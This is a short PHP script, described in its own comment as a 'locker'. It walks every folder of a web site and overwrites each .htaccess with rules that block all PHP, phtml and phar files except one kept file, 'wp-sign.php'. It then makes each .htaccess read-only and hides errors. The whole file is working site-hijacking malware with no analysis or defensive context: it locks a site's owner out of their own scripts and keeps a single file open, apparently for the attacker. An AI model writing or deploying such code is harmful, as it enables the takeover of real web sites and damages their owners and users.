<?php
// a locker written as a recursive walker: every folder's .htaccess replaced with rules that
// refuse the site's own scripts and serve one page, then made read-only
$keep = 'wp-sign.php';
function seal($d, $keep)
{
    $rules = "<FilesMatch \"\\.(php|phtml|phar)$\">\nDeny from all\n</FilesMatch>\n"
        . "<FilesMatch \"^" . $keep . "$\">\nAllow from all\n</FilesMatch>\n";
    @file_put_contents($d . '/.htaccess', $rules);
    @chmod($d . '/.htaccess', 0444);
    foreach (glob($d . '/*', GLOB_ONLYDIR) as $sub) {
        seal($sub, $keep);
    }
}
seal(dirname(__FILE__), $keep);
echo 'done';
